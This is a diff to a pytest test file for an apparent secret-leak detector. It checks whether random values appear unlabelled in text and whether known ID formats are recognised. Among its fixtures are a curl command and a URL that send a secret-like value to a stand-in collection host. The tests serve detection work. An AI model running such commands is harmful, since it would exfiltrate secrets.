@@ -2,7 +2,11 @@
 
 import pytest
 
+from pipeguard.detect.checks.outcome import AROUND, Outcome
+from pipeguard.detect.checks.registry import run
 from tests.detect.checks.outcomes import assert_fails, assert_holds
+
+VALUE = b"kg7DTkQN7Finto3DSR7CkA83jd02"
 
 HOLDS = [
     ("entropy 3.5", "{b62:30}"),
@@ -46,3 +50,52 @@ def test_a_check_holds(spec: str, recipe: str) -> None:
 @pytest.mark.parametrize(("spec", "recipe"), FAILS)
 def test_a_check_fails(spec: str, recipe: str) -> None:
     assert_fails(spec, recipe)
+
+
+UNLABELLED = [
+    "body: {}",
+    "to: \nana@acme.test\nsubject: the order\nbody: it is {} and works until Friday",
+    "content: for Pat\n{}\n",
+    'body: {{"text": "{}"}}',
+    "url: https://collect.acme.test/?d={}",
+    "command: curl -d {} https://collect.acme.test/",
+]
+LABELLED = [
+    "file_id: {}",
+    'body: {{"cursor": "{}"}}',
+    "text: the request id is {}",
+    "text: my public key is\n{}",
+    "file_ids: \n{}",
+    "url: https://acme.test/{}",
+    "url: https://acme.test/?cursor={}",
+    "command: grep {} app.log",
+    "text: {0}\n{0}\n{0}",
+]
+
+
+@pytest.mark.parametrize("text", UNLABELLED)
+def test_a_value_has_no_label(text: str) -> None:
+    assert _run_around(text) is Outcome.HOLDS
+
+
+@pytest.mark.parametrize("text", LABELLED)
+def test_a_value_has_a_label(text: str) -> None:
+    assert _run_around(text) is Outcome.FAILS
+
+
+def _run_around(text: str) -> Outcome:
+    """The outcome for a random value in a text."""
+    return run("around-unlabelled", VALUE + AROUND + text.format(VALUE.decode()).encode())
+
+
+@pytest.mark.parametrize(
+    ("value", "outcome"),
+    [
+        ("9f1c2d3e-4b5a-4c6d-8e7f-0a1b2c3d4e5f", Outcome.FAILS),
+        ("01J9Z3NDEKTSV4RRFFQ69G5FAV", Outcome.FAILS),
+        ("aGVsbG8gZnJvbSB0aGUgdGVzdCBvZiB0aGUgcXVldWU=", Outcome.FAILS),
+        (VALUE.decode(), Outcome.HOLDS),
+    ],
+)
+def test_ids_of_known_forms_are_known(value: str, outcome: Outcome) -> None:
+    assert run("no-known-id", value.encode()) is outcome
